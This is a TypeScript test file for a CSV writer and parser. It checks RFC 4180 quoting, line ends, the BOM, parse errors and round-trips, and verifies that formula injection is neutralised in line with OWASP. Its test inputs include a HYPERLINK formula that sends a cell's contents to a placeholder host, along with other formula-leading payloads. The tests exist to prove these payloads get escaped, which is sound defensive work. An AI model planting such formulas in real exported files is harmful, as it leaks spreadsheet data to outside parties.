// CSV as RFC 4180 writes it: quoting, CRLF, BOM for Excel; the reader is strict and round-trips.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
	CsvError,
	csvField,
	neutraliseFormula,
	parseCsv,
	toCsv,
	UTF8_BOM,
} from '../../src/lib/csv';

describe('toCsv', () => {
	it('writes `;`-separated records ending in CRLF, after a BOM for Excel', () => {
		expect(
			toCsv([
				['a', 'b'],
				['c', 'd'],
			]),
		).toBe(`${UTF8_BOM}a;b\r\nc;d\r\n`);
		expect(toCsv([['a', 'b']], { separator: ',', bom: false })).toBe('a,b\r\n');
	});

	it('quotes a field holding the separator, a quote, a line break or edge spaces', () => {
		expect(csvField('a;b')).toBe('"a;b"');
		expect(csvField('a,b')).toBe('a,b');
		expect(csvField('a,b', ',')).toBe('"a,b"');
		expect(csvField('il dit "oui"')).toBe('"il dit ""oui"""');
		expect(csvField('ligne 1\nligne 2')).toBe('"ligne 1\nligne 2"');
		expect(csvField(' espace')).toBe('" espace"');
		expect(csvField('Œuvre – « français » : 1 200 €')).toBe('Œuvre – « français » : 1 200 €');
	});
});

describe('formula injection (OWASP)', () => {
	it.each([
		['=1+2', `"'=1+2"`],
		[
			'=HYPERLINK("http://exemple.test/?"&B2,"Ouvrir")',
			`"'=HYPERLINK(""http://exemple.test/?""&B2,""Ouvrir"")"`,
		],
		['+33 1 23 45 67 89', `"'+33 1 23 45 67 89"`],
		['-2+3', `"'-2+3"`],
		['@SUM(A1)', `"'@SUM(A1)"`],
		['\t=1', `"'\t=1"`],
		['\r=1', `"'\r=1"`],
	])('neutralises a cell starting like a formula: %j', (value, written) => {
		expect(csvField(value)).toBe(written);
		// A spreadsheet shows the text: what a reader gets back starts with the apostrophe.
		expect(parseCsv(toCsv([[value, 'x']]))).toEqual([[`'${value}`, 'x']]);
	});

	it('leaves other cells as they are, a formula sign inside included', () => {
		expect(csvField('CCAS de Villebourg = commune')).toBe('CCAS de Villebourg = commune');
		expect(csvField('Aide au permis 2026-14')).toBe('Aide au permis 2026-14');
		expect(csvField("l'aide")).toBe("l'aide");
	});
});

describe('parseCsv', () => {
	it('reads quoted fields with separators, doubled quotes and line breaks', () => {
		const text = `${UTF8_BOM}nom;note\r\n"Dupont; Jean";"dit ""oui""\r\net part"\r\n;\r\n`;
		expect(parseCsv(text)).toEqual([
			['nom', 'note'],
			['Dupont; Jean', 'dit "oui"\r\net part'],
			['', ''],
		]);
	});

	it('accepts LF line ends and a missing final line break', () => {
		expect(parseCsv('a,b\nc,d', ',')).toEqual([
			['a', 'b'],
			['c', 'd'],
		]);
	});

	it('refuses what RFC 4180 forbids, naming the line', () => {
		expect(() => parseCsv('a;b"c\r\n')).toThrow(CsvError);
		expect(() => parseCsv('a;"b"c\r\n')).toThrow(/ligne 1 : texte après le guillemet/);
		expect(() => parseCsv('a;b\r\nc;"d\r\n')).toThrow(/ligne 3 : guillemet ouvrant jamais fermé/);
	});

	it('reads back what toCsv writes, for any text, formulas neutralised', () => {
		const field = fc.string({ unit: 'grapheme', maxLength: 20 });
		const rows = fc
			.integer({ min: 1, max: 5 })
			.chain((width) =>
				fc.array(fc.array(field, { minLength: width, maxLength: width }), { minLength: 1 }),
			);
		fc.assert(
			fc.property(rows, fc.constantFrom(';' as const, ',' as const), (input, separator) => {
				// A one-column row holding '' is an empty line, which a reader cannot tell from nothing.
				fc.pre(!input.some((row) => row.length === 1 && row[0] === ''));
				// A text starting with U+FEFF reads as a byte order mark, as every CSV reader does.
				fc.pre(!(input[0]?.[0] ?? '').startsWith(UTF8_BOM));
				expect(parseCsv(toCsv(input, { separator }), separator)).toEqual(
					input.map((row) => row.map(neutraliseFormula)),
				);
			}),
		);
	});
});
